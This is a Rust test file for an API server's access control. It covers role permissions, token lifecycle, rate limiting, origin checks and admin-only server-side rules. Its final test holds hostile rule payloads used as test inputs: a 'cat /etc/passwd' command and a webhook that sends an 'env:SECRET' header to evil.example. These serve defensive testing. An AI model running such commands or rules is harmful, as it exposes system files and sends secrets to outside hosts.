//! Who may do what.

use desk::token::{Role, create};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use server::{Options, Server};

use crate::lab::{Lab, engine, refused, told};

async fn token(lab: &Lab, name: &str, role: Role) -> String {
    let asked = json!({"name": name, "role": role});
    create(&lab.engine, serde_json::from_value(asked).unwrap())
        .await
        .unwrap()
        .secret
}

async fn with(lab: &Lab, token: &str, method: Method, path: &str, body: Value) -> (StatusCode, Value) {
    told(lab.request(method, path).bearer_auth(token).json(&body)).await
}

#[tokio::test]
async fn each_role_may_what_it_says_and_no_more() {
    let lab = Lab::new().await;
    let reader = token(&lab, "reader", Role::Reader).await;
    let worker = token(&lab, "worker", Role::Worker).await;
    let operator = token(&lab, "operator", Role::Operator).await;
    let admin = token(&lab, "admin", Role::Admin).await;
    let prompt = || json!({"name": "think"});
    let command = || json!({"name": "build", "run": "make"});
    for (who, may) in [(&reader, 1), (&worker, 3), (&operator, 4), (&admin, 5)] {
        let tries = [
            with(&lab, who, Method::GET, "/v1/tasks", json!({})).await,
            with(&lab, who, Method::POST, "/v1/tasks", prompt()).await,
            with(&lab, who, Method::POST, "/v1/leases", json!({"worker": "w"})).await,
            with(&lab, who, Method::POST, "/v1/tasks", command()).await,
            with(&lab, who, Method::GET, "/v1/tokens", json!({})).await,
        ];
        let let_in = tries.iter().take_while(|(status, _)| status.is_success()).count();
        assert_eq!(let_in, may, "{tries:?}");
        for refusal in tries.into_iter().skip(may) {
            assert_eq!(refused(refusal), ("forbidden".to_owned(), 403));
        }
    }
    assert_eq!(
        refused(lab.get("/v1/tasks").await),
        ("unauthorized".to_owned(), 401)
    );
    assert_eq!(lab.get("/livez").await.0, StatusCode::OK);
    let events = with(
        &lab,
        &reader,
        Method::GET,
        "/v1/events?type=task.submitted",
        json!({}),
    )
    .await
    .1;
    assert_eq!(events["events"][0]["actor"], "user:worker");
}

#[tokio::test]
async fn tokens_are_made_listed_and_revoked_and_their_secrets_are_not_kept() {
    let lab = Lab::new().await;
    let (status, made) = lab
        .post("/v1/tokens", &json!({"name": "a", "role": "admin"}))
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let secret = made["secret"].as_str().unwrap().to_owned();
    let kept = lab
        .engine
        .store
        .entries(&lab.engine.project, domain::book::Book::Token, "", 10)
        .await
        .unwrap();
    assert!(!kept[0].value.get().contains(&secret["bell_".len()..]));
    let again = with(
        &lab,
        &secret,
        Method::POST,
        "/v1/tokens",
        json!({"name": "a", "role": "reader"}),
    )
    .await;
    assert_eq!(refused(again), ("token-exists".to_owned(), 409));
    let list = with(&lab, &secret, Method::GET, "/v1/tokens", json!({})).await.1;
    assert_eq!(
        (&list["count"], &list["tokens"][0]["name"]),
        (&json!(1), &json!("a"))
    );
    assert!(!list.to_string().contains(&secret));
    let other = with(
        &lab,
        &secret,
        Method::POST,
        "/v1/tokens",
        json!({"name": "b", "role": "reader", "projects": ["p"]}),
    )
    .await
    .1;
    let other = other["secret"].as_str().unwrap();
    assert_eq!(
        refused(with(&lab, other, Method::GET, "/v1/queue", json!({})).await).1,
        403
    );
    assert_eq!(
        with(&lab, other, Method::GET, "/v1/queue?project=p", json!({}))
            .await
            .0,
        StatusCode::OK
    );
    with(&lab, &secret, Method::DELETE, "/v1/tokens/b", json!({})).await;
    loop {
        let (status, _) = with(&lab, other, Method::GET, "/v1/queue?project=p", json!({})).await;
        if status == StatusCode::UNAUTHORIZED {
            break;
        }
        tokio::task::yield_now().await;
    }
}

#[tokio::test]
async fn wrong_tokens_are_slowed_down() {
    let lab = Lab::new().await;
    let right = token(&lab, "right", Role::Reader).await;
    let mut codes = Vec::new();
    for _ in 0..6 {
        codes.push(refused(with(&lab, "bell_wrong", Method::GET, "/v1/queue", json!({})).await).1);
    }
    assert_eq!(codes, [401, 401, 401, 401, 401, 429]);
    assert_eq!(
        refused(with(&lab, &right, Method::GET, "/v1/queue", json!({})).await).1,
        429
    );
}

#[tokio::test]
async fn web_pages_elsewhere_are_kept_out() {
    let lab = Lab::new().await;
    for (name, value) in [("host", "evil.example"), ("origin", "http://evil.example")] {
        let request = lab.request(Method::GET, "/v1/queue").header(name, value);
        assert_eq!(
            refused(told(request).await),
            ("forbidden".to_owned(), 403),
            "{name}"
        );
    }
    let answer = lab
        .request(Method::OPTIONS, "/v1/tasks")
        .header("origin", "http://evil.example");
    let answer = answer.send().await.unwrap();
    assert!(!answer.headers().contains_key("access-control-allow-origin"));
}

#[tokio::test]
async fn nobody_listens_to_the_world_without_a_token() {
    let (engine, _folder) = engine();
    let options = || Options {
        listen: "0.0.0.0:0".parse().unwrap(),
        ..crate::lab::options()
    };
    let (_pace, paced) = tokio::sync::watch::channel(engine::worker::Pace::Work);
    let workers = engine::worker::Options::default();
    let refused = Server::open(engine.clone(), options(), workers.clone(), paced.clone()).await;
    assert_eq!(refused.unwrap_err().code, domain::code::Code::TokenRequired);
    let asked = serde_json::from_value(json!({"name": "a", "role": "admin"})).unwrap();
    create(&engine, asked).await.unwrap();
    assert!(Server::open(engine, options(), workers, paced).await.is_ok());
}

// proves: DESIGN 13
#[tokio::test]
async fn what_uses_the_machine_of_the_server_is_for_its_admins() {
    let lab = Lab::new().await;
    let operator = token(&lab, "operator", Role::Operator).await;
    let admin = token(&lab, "admin", Role::Admin).await;
    let rule = |what: Value| {
        let mut rule = json!({"on": "task.failed"});
        rule.as_object_mut()
            .unwrap()
            .extend(what.as_object().unwrap().clone());
        json!({"rules": {"r": rule}, "replace": true})
    };
    for what in [
        json!({"notify": "cat /etc/passwd"}),
        json!({"webhook": {"url": "https://evil.example", "headers": {"x": "env:SECRET"}}}),
        json!({"publish": {"url": "env:SECRET", "routing_key": "x"}}),
    ] {
        let rule = rule(what);
        let refusal = with(&lab, &operator, Method::POST, "/v1/rules", rule.clone()).await;
        assert!(
            refusal.1["help"].as_str().unwrap().contains("admin"),
            "{refusal:?}"
        );
        assert_eq!(refused(refusal), ("forbidden".to_owned(), 403));
        let (status, answer) = with(&lab, &admin, Method::POST, "/v1/rules", rule).await;
        assert!(status.is_success(), "{answer}");
        // The same by way of the contract of stores.
        let link = client::Link::new(&lab.url(""), Some(client::Secret::new(operator.clone()))).unwrap();
        let project = &lab.engine.project;
        let far = client::Remote::open(link, project).await.unwrap();
        let store = &lab.engine.store;
        let kept = store
            .entries(project, domain::book::Book::Rule, "", 10)
            .await
            .unwrap()
            .remove(0);
        let edit = domain::book::Edit::put(kept);
        let actor = lab.engine.actor.clone();
        let edited = domain::store::Store::edit(&far, project, vec![edit], actor, lab.engine.now()).await;
        assert_eq!(edited.unwrap_err().code, domain::code::Code::Forbidden);
    }
    let plain = rule(json!({"webhook": "https://hooks.example.org/x"}));
    let (status, answer) = with(&lab, &operator, Method::POST, "/v1/rules", plain).await;
    assert!(status.is_success(), "{answer}");
}
